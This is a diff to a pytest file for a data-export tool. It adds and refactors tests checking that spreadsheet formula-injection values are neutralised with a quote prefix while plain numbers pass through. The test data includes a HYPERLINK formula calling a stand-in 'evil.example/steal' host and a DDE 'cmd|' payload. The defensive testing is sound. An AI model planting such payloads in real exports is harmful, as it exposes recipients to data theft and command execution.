@@ -15,7 +15,7 @@ import pytest
 from contract_books import contract_workbook
 from typer.testing import CliRunner
 
-from dealersync.exports.cells import FORMULA_TRIGGERS, PLAIN_NUMBER
+from dealersync.exports.cells import FORMULA_TRIGGERS
 
 TODAY = date(2026, 3, 9)  # a Monday: last week's (2026-W10) quality report is written tonight
 HYPERLINK = '=HYPERLINK("http://evil.example/steal","点我查看")'
@@ -101,7 +101,8 @@ def live_csv_fields(text: str) -> list[str]:
         field
         for row in csv.reader(text.splitlines())
         for field in row
-        if field.startswith(FORMULA_TRIGGERS) and not re.fullmatch(PLAIN_NUMBER, field)  # -5 is a number
+        if field.startswith(FORMULA_TRIGGERS)
+        and not re.fullmatch(r"[-+][0-9]+(\.[0-9]+)?", field)  # -5: a number
     ]
 
 
@@ -166,3 +167,34 @@ def test_every_export_writes_formula_payloads_as_inert_text(tmp_path, prefect_ha
             xlsx_texts(p) if p.suffix == ".xlsx" else p.read_text(encoding="utf-8-sig") for p in paths
         )
         assert any(payload in texts for payload in PAYLOADS), name
+
+
+def test_csv_text_that_would_run_is_prefixed_and_a_plain_number_is_not():
+    import polars as pl
+
+    from dealersync.exports.cells import safe_frame
+
+    written = [
+        "-5",
+        "+86",
+        "-0.5",
+        "-1+1",
+        "=1+2",
+        "@SUM(A1)",
+        "+86 138",
+        "-2+3+cmd|' /C calc'!A0",
+        "\tx",
+        "ok",
+    ]
+    assert safe_frame(pl.DataFrame({"cell": written}))["cell"].to_list() == [
+        "-5",
+        "+86",
+        "-0.5",
+        "'-1+1",
+        "'=1+2",
+        "'@SUM(A1)",
+        "'+86 138",
+        "'-2+3+cmd|' /C calc'!A0",
+        "'\tx",
+        "ok",
+    ]
